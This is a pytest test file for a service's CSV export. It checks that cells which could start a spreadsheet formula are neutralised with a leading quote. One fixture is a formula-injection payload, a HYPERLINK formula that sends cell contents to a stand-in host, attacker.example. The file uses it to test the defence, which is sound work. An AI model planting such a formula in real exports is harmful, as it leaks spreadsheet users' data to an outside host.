"""CSV exports never hand a spreadsheet a formula: cells starting with = + - @, tab or CR get a leading quote."""

from __future__ import annotations

import csv
import io

import pytest

from serving.csv_cells import csv_text, safe_cell

HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A1,"详情")'


@pytest.mark.parametrize("text", [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
def test_a_cell_that_could_start_a_formula_is_quoted(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["翠竹苑", "a=b", "", 0.25, 3, None])
def test_other_cells_are_left_alone(value):
    assert safe_cell(value) == value


def test_csv_text_escapes_header_and_rows():
    rows = list(csv.reader(io.StringIO(csv_text(["=h"], [["@x"], [1]], bom=False))))
    assert rows == [["'=h"], ["'@x"], ["1"]]


def test_a_community_named_like_a_formula_reaches_the_queue_export_as_text(client, auth):
    community = {
        "community_id": "C1", "name": HYPERLINK, "district": "罗湖区", "subdistrict": "翠竹街道", "firm_id": "F1",
        "built_year": 2001, "fee_rate_cny_m2": 2.5, "has_owners_committee": True,
    }  # fmt: skip
    assert client.post("/v1/ingest/communities", json=[community], headers=auth["admin"]).status_code == 200
    response = client.get("/v1/queue?limit=100&format=csv", headers=auth["mediator"])
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = {row["community_id"]: row["community_name"] for row in rows}
    assert names["C1"] == "'" + HYPERLINK
    assert names["C3"] == "金湖山庄"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
